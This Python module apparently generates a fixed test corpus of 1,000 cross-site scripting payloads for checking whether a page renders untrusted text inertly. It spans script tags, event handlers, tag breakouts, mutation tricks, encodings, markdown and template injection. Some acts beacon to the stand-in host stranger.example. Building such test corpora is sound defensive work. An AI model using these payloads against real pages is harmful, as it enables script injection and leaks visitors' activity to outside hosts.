"""1,000 attempts to have a page run or load something: 200 each for titles, headings, bodies, file names and questions.

In: nothing. Out: payloads, the same in every run. A ``Family`` is a way in; ``{act}`` in it is what would be done and
``{url}`` what would be loaded. ``fires`` says whether a page that trusts its text is caught by it without a click:
test_inert.py shows that on a page that does.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass

EACH = 200
PLACES = ("title", "heading", "body", "file name", "question")
STRANGER = "stranger.example"
_FILE_NAME_BYTES = 180


@dataclass(frozen=True)
class Family:
    """A way in."""

    name: str
    pattern: str
    fires: bool = True


FAMILIES = (
    Family("script", "<script>{act}</script>"),
    Family("script, odd case", "<ScRiPt >{act}</sCrIpT >"),
    Family("script from elsewhere", "<script src={url}></script>"),
    Family("module", "<script type=module>{act}</script>"),
    Family("image", "<img src=data:, onerror={act}>"),
    Family("image, slashes", "<img/src='data:,'/onerror={act}>"),
    Family("image, quoted", '<IMG SRC="data:," OnErRoR="{act}">'),
    Family("image from elsewhere", "<img src={url}>"),
    Family("images from elsewhere", "<img srcset='{url} 1x'>"),
    Family("picture", "<picture><source srcset={url}><img></picture>"),
    Family("svg", "<svg onload={act}>"),
    Family("svg script", "<svg><script>{act}</script></svg>"),
    Family("svg image", "<svg><image href={url}></svg>"),
    Family("svg animation", "<svg><animate onbegin={act} attributeName=x dur=1s></svg>"),
    Family("frame", '<iframe srcdoc="<script>parent.{act}</script>"></iframe>'),
    Family("frame, script address", '<iframe src="javascript:parent.{act}"></iframe>'),
    Family("frame from elsewhere", "<iframe src={url}></iframe>"),
    Family("frame, data address", "<iframe src='data:text/html,<img src=http:{url}>'></iframe>"),
    Family("frame loaded", "<iframe onload={act}></iframe>"),
    Family("object", "<object data={url}></object>"),
    Family("embedded", "<embed src={url}>"),
    Family("video", "<video><source onerror={act}></video>"),
    Family("audio", "<audio src=data:, onerror={act}></audio>"),
    Family("poster", "<video poster={url}></video>"),
    Family("details", "<details open ontoggle={act}>"),
    Family("focus", "<input autofocus onfocus={act}>"),
    Family("focus, any element", "<x tabindex=1 autofocus onfocus={act}>"),
    Family("image button", "<input type=image src=data:, onerror={act}>"),
    Family("body", "<body onpageshow={act}>"),
    Family(
        "animation",
        "<style>@keyframes x{}</style>"
        "<b style=animation-name:x;animation-duration:1s onanimationstart={act}>b",
    ),
    Family("style", "<style>@import '{url}';</style>"),
    Family("style, picture", "<b style=background:url({url})>b</b>"),
    Family("style, font", "<style>@font-face{font-family:x;src:url({url})}p{font-family:x}</style><p>x"),
    Family("style sheet", "<link rel=stylesheet href={url}>"),
    Family("preload", "<link rel=preload as=image href={url}>"),
    Family("address of the page", "<base href={url}><img src=x>"),
    Family("refresh", "<meta http-equiv=refresh content='0;url={url}'>"),
    Family("out of an attribute", '"><img src=data:, onerror={act}>'),
    Family("out of an attribute, single", "'><img src=data:, onerror={act}>"),
    Family("out of a title", "</title><script>{act}</script>"),
    Family("out of a text box", "</textarea><script>{act}</script>"),
    Family("out of a style", "</style><script>{act}</script>"),
    Family("out of a script", "</script><script>{act}</script>"),
    Family("out of a comment", "--><script>{act}</script><!--"),
    Family("out of a template", "</template><script>{act}</script>"),
    Family("out of noscript", '<noscript><p title="</noscript><img src=data:, onerror={act}>">'),
    Family(
        "mutation, style",
        "<math><mtext><table><mglyph><style><!--</style><img title='-->"
        "<img src=data:, onerror={act}>'>",
        fires=False,
    ),
    Family("mutation, svg", "<svg></p><style><a id='</style><img src=data:, onerror={act}>'>"),
    Family("mutation, select", "<select><template><img src=data:, onerror={act}></template></select>", fires=False),
    Family("shadow", "<div><template shadowrootmode=open><img src=data:, onerror={act}></template></div>"),
    Family("link", "<a href=javascript:{act}>read</a>", fires=False),
    Family("link, entity", "<a href='java&#115;cript:{act}'>read</a>", fires=False),
    Family("mouse", "<b onmouseover={act}>read</b>", fires=False),
    Family("mouse, out of an attribute", "\" onmouseover={act} x=\"", fires=False),
    Family("form", "<form action=javascript:{act}><button>ask</button></form>", fires=False),
    Family("button", "<button formaction=javascript:{act}>ask</button>", fires=False),
    Family("popover", "<button popovertarget=x>a</button><i popover id=x onbeforetoggle={act}>", fires=False),
    Family(
        "policy",
        "<meta http-equiv=content-security-policy content=\"default-src *\">"
        "<b title='{act}'>",
        fires=False,
    ),
    Family("cover", "<style>body{display:none}</style><i title='{act}'>", fires=False),
    Family("cover, element", "<div style=position:fixed;inset:0;z-index:9999 title='{act}'>", fires=False),
    Family("entities", "&lt;img src=data:, onerror={act}&gt;", fires=False),
    Family("numbers", "&#60;img src=data:, onerror={act}&#62;", fires=False),
    Family("percent", "%3Cimg src=data:, onerror={act}%3E", fires=False),
    Family("double percent", "%253Cimg src=data:, onerror={act}%253E", fires=False),
    Family("full width", "＜img src=data:, onerror={act}＞", fires=False),
    Family("seven bits", "+ADw-img src=data:, onerror={act}+AD4-", fires=False),
    Family("escapes", "\\u003cimg src=data:, onerror={act}\\u003e", fires=False),
    Family("markdown image", "![a]({url})", fires=False),
    Family("markdown link", "[read](javascript:{act})", fires=False),
    Family("markdown reference", "[a][1] [1]: javascript:{act}", fires=False),
    Family("markdown markup", "**<img src=data:, onerror={act}>**"),
    Family("markdown break", "`<img src=data:, onerror={act}>`"),
    Family("colour", ":red[<img src=data:, onerror={act}>]"),
    Family("colour, image", ":blue[![a]({url})]", fires=False),
    Family("icon", ":material/home: :image[{url}]", fires=False),
    Family("formula", "$\\href{javascript:{act}}{x}$", fires=False),
    Family("formula, image", "$\\includegraphics{{url}}$", fires=False),
    Family("formula, style", "$\\htmlStyle{background:url({url})}{x}$", fires=False),
    Family("template", "{{constructor.constructor('{act}')()}}", fires=False),
    Family("template, string", "${{act}}", fires=False),
    Family("expression", "';{act};'", fires=False),
    Family("expression, double", "\";{act};//", fires=False),
    Family("data address", "data:text/html,<script>parent.{act}</script>"),
    Family("script address", "javascript:{act}//", fires=False),
    Family("direction", "\u202e<img src=data:, onerror={act}>\u202c"),
)  # fmt: skip

ACTS = ("window.__xss={n}", "alert({n})", "top.__xss={n}", "fetch(`//{host}/{n}`)", "new(Image)().src=`//{host}/{n}`")
# Of a file name a slash cannot be part; browsers take backslashes in an address for slashes.
SLASHLESS_ACTS = ("window.__xss={n}", "alert({n})", "top.__xss={n}", "fetch(`\\\\\\\\{host}\\\\{n}`)")


def written(family: Family, act: str, number: int, *, slashes: bool = True) -> str:
    """One payload."""
    url = f"//{STRANGER}/{number}" if slashes else f"\\\\{STRANGER}\\{number}"
    done = act.replace("{n}", str(number)).replace("{host}", STRANGER)
    return family.pattern.replace("{act}", done).replace("{url}", url)


def payloads() -> dict[str, list[str]]:
    """200 payloads for each place, all 1,000 different, every family in every place that can hold it."""
    numbers = itertools.count(1)
    return {place: list(itertools.islice(_for(place, numbers), EACH)) for place in PLACES}


def _for(place: str, numbers: Iterator[int]) -> Iterator[str]:
    draw = random.Random(place)
    slashes = place != "file name"
    while True:
        for family in FAMILIES:
            act = draw.choice(ACTS if slashes else SLASHLESS_ACTS)
            payload = written(family, act, next(numbers), slashes=slashes)
            if slashes or ("/" not in payload and len(payload.encode()) <= _FILE_NAME_BYTES):
                yield payload
